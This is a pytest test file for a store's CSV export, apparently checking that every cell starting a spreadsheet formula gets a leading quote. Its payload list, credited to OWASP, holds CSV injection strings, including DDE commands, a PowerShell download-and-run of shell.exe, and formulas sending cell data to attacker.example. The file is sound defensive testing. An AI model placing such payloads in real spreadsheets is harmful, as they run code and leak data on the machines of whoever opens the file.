"""CSV exports neutralise spreadsheet formulas: every cell starting with =, +, -, @, tab or CR gets a leading quote.

Payloads from OWASP's CSV Injection page, https://owasp.org/www-community/attacks/CSV_Injection (the rule and its
examples), plus the same payloads behind a tab or a carriage return and the sign variants it names.
"""
from __future__ import annotations

import csv
import io

import pytest

from store import exports
from store.db import get_db

OWASP_PAYLOADS = (
    "=1+1+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2, \"Error: please click for further information\")",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=IMAGE(\"https://attacker.example/pixel.png\")",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1+cmd|' /C calc'!A0",
    "\r=1+1+cmd|' /C calc'!A0",
    "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=0x0D",
    "+33612345678",
)
BENIGN = ("assures-amell.fr", "https://bit.ly/3xYz", "AMELI-INFO", "3646", "a=b", "x@evil.example")


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_that_starts_a_formula_gets_a_leading_quote(payload):
    assert exports.csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", BENIGN)
def test_an_ordinary_value_is_left_as_it_is(value):
    assert exports.csv_safe(value) == value


def test_no_cell_of_the_csv_export_starts_a_formula(tmp_path):
    db = get_db(tmp_path / "v.sqlite3")
    db["indicators"].insert_all([
        {"kind": "sender", "value": payload, "verdict": "scam", "decided_at": "2026-11-28T10:00:00+00:00",
         "campaign_id": payload} for payload in OWASP_PAYLOADS])
    text = exports.to_csv(exports.confirmed(db))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["value"] for r in rows) == sorted("'" + p for p in OWASP_PAYLOADS)
    assert sorted(r["campaign"] for r in rows) == sorted("'" + p for p in OWASP_PAYLOADS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert text.count("\n") == len(OWASP_PAYLOADS) + 1  # a CR inside a value is quoted, never a new row
